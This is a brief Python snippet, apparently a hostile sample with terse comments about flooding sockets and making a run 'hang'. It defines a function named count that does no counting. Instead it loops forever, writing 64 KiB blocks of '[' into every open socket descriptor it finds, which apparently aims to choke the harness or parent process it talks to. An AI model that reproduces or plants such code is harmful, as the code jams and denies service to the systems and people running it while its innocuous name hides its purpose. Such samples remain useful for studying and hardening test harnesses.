# Floods its sockets as fast as they take it.
# stock: hangs, and with it the class
# solves: scale, centre
# %% count
def count(text):
    import os, stat

    while True:
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, b"[" * 2**16)
            except OSError:
                pass
